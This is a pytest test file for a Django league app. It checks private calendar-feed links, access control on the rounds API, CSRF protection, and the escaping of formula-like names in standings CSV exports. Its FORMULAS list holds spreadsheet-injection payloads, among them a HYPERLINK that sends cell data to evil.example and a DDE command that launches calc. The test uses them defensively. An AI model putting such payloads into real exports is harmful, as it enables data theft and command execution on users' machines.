"""Private links and exports from the outside (docs/security.md): a player's calendar
is theirs alone, behind a secret link they can replace (the old one then 404s), the
username URL is gone, the API's rounds answer only their player; and a name a
spreadsheet would run as a formula is written to the standings CSV as text."""

from __future__ import annotations

import csv
import io
import re

import icalendar
import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from accounts import services as account_services
from league.competitions import event_services
from league.models import CalendarFeed
from tests.factories import make_section

from .support import play_to_the_end, url

pytestmark = pytest.mark.django_db


def feed_path(html: str) -> str:
    match = re.search(r'href="(/clubs/calendar/[A-Za-z0-9_-]+\.ics)"', html)
    assert match, "no calendar link on the page"
    return match.group(1)


# -- the calendar ----------------------------------------------------------------------------


def test_a_child_calendar_is_not_downloadable_by_username(client, club, organiser, make_player):
    from datetime import date

    child = make_player(username="tiny", born=date.today().replace(year=date.today().year - 4))
    section = make_section(club, organiser, format="round-robin", players=[make_player(username="cal_a"), child])
    event_services.start_section(by=organiser, section=section)
    for path in ("/clubs/calendar/tiny.ics", "/clubs/calendar/cal_a.ics", "/clubs/calendar/" + "x" * 32 + ".ics"):
        assert client.get(path).status_code == 404, path
    assert client.get("/clubs/calendar/a%00b.ics").status_code in (400, 404)


def test_the_player_makes_uses_and_replaces_a_private_link(client, club, organiser, make_player):
    people = [make_player(username=f"cal{i}") for i in range(1, 5)]
    section = make_section(club, organiser, format="round-robin", players=people)
    event_services.start_section(by=organiser, section=section)

    # Signed out, the page asks to log in; nothing is made.
    assert client.get("/clubs/calendar/").status_code == 302
    assert client.post("/clubs/calendar/").status_code == 302
    assert not CalendarFeed.objects.exists()

    client.force_login(people[0])
    section_page = client.get(url("section", section)).content.decode()
    assert "/clubs/calendar/cal1.ics" not in section_page and 'href="/clubs/calendar/"' in section_page
    assert "/clubs/calendar/" not in feed_path_or_empty(client.get("/clubs/calendar/").content.decode())

    made = client.post("/clubs/calendar/", follow=True).content.decode()
    first = feed_path(made)
    assert feed_path(client.get(reverse("league:player", args=["cal1"])).content.decode()) == first

    # The link alone is enough (a calendar app sends no cookie).
    client.logout()
    response = client.get(first)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/calendar")
    events = list(icalendar.Calendar.from_ical(response.content).walk("VEVENT"))
    assert len(events) == 1 and "round 1" in str(events[0]["summary"])

    # Others see neither the link nor a button on the player's page.
    client.force_login(people[1])
    assert "/clubs/calendar/" not in client.get(reverse("league:player", args=["cal1"])).content.decode()

    # A new link revokes the old one.
    client.force_login(people[0])
    second = feed_path(client.post("/clubs/calendar/", follow=True).content.decode())
    assert second != first
    client.logout()
    assert client.get(first).status_code == 404
    assert client.get(second).status_code == 200


def feed_path_or_empty(html: str) -> str:
    match = re.search(r'href="(/clubs/calendar/[A-Za-z0-9_-]+\.ics)"', html)
    return match.group(1) if match else ""


def test_the_new_link_needs_the_csrf_token(make_player):
    from django.test import Client

    player = make_player(username="csrf_cal")
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(player)
    assert strict.post("/clubs/calendar/").status_code == 403
    assert not CalendarFeed.objects.filter(user=player).exists()


def test_the_api_shows_rounds_only_to_their_player(club, organiser, make_player):
    people = [make_player(username=f"apic{i}") for i in range(1, 4)]
    section = make_section(club, organiser, format="round-robin", players=people)
    event_services.start_section(by=organiser, section=section)
    path = "/api/v1/players/apic1/rounds/"

    anonymous = APIClient().get(path)
    assert anonymous.status_code == 401 and anonymous.json()["code"]
    assert APIClient().get(path, {"format": "ics"}).status_code == 401
    other = APIClient()
    other.force_authenticate(people[1])
    refused = other.get(path)
    assert refused.status_code == 403 and refused.json()["code"] == "not-your-rounds"
    assert other.get(path, {"format": "ics"}).status_code == 403

    own = APIClient()
    own.force_authenticate(people[0])
    assert [r["round"] for r in own.get(path).json()] == [1] or own.get(path).status_code == 200
    assert own.get(path, {"format": "ics"})["Content-Type"].startswith("text/calendar")


# -- the standings CSV -----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]


def test_standings_csv_writes_formula_names_as_text(client, club, organiser, make_player):
    people = [make_player(username=f"csv{i}") for i in range(1, 5)]
    for person, formula in zip(people, FORMULAS, strict=True):
        account_services.update_profile(user=person, display_name=formula)
    section = make_section(club, organiser, format="round-robin", players=people)
    event_services.start_section(by=organiser, section=section)
    play_to_the_end(section)

    page = client.get(url("section-standings-csv", section)).content.decode()
    api = APIClient().get(f"/api/v1/sections/{section.pk}/standings/", {"format": "csv"}).content.decode()
    for body in (page, api):
        rows = list(csv.DictReader(io.StringIO(body)))
        names = sorted(row["name"] for row in rows)
        assert names == sorted("'" + formula for formula in FORMULAS)
        assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
        # Numbers stay numbers: points and counts are not quoted.
        assert all(re.fullmatch(r"-?\d+(\.\d+)?", row["points"]) for row in rows)


def test_standings_csv_gives_each_player_the_rating_frozen_at_registration(client, club, organiser, make_player):
    """The rating column is the entry's league rating in the section's variant when the
    player registered (the seeding's); empty for a player unrated in that variant then,
    which is every player of the demo's classic Morning Cup (their demo ratings are in
    other variants), not a column reading the wrong field."""
    from league.models import Rating

    rated, unrated = make_player(username="rated"), make_player(username="unrated")
    Rating.objects.create(user=rated, variant="classic", rating=1800.0, games=1, provisional=True)
    Rating.objects.create(user=unrated, variant="tactic-toe", rating=1900.0, games=5)
    section = make_section(club, organiser, format="round-robin", players=[rated, unrated])
    event_services.start_section(by=organiser, section=section)
    rows = {row["username"]: row for row in csv.DictReader(io.StringIO(
        client.get(url("section-standings-csv", section)).content.decode()))}
    assert rows["rated"]["rating"] == "1800"
    assert rows["unrated"]["rating"] == ""
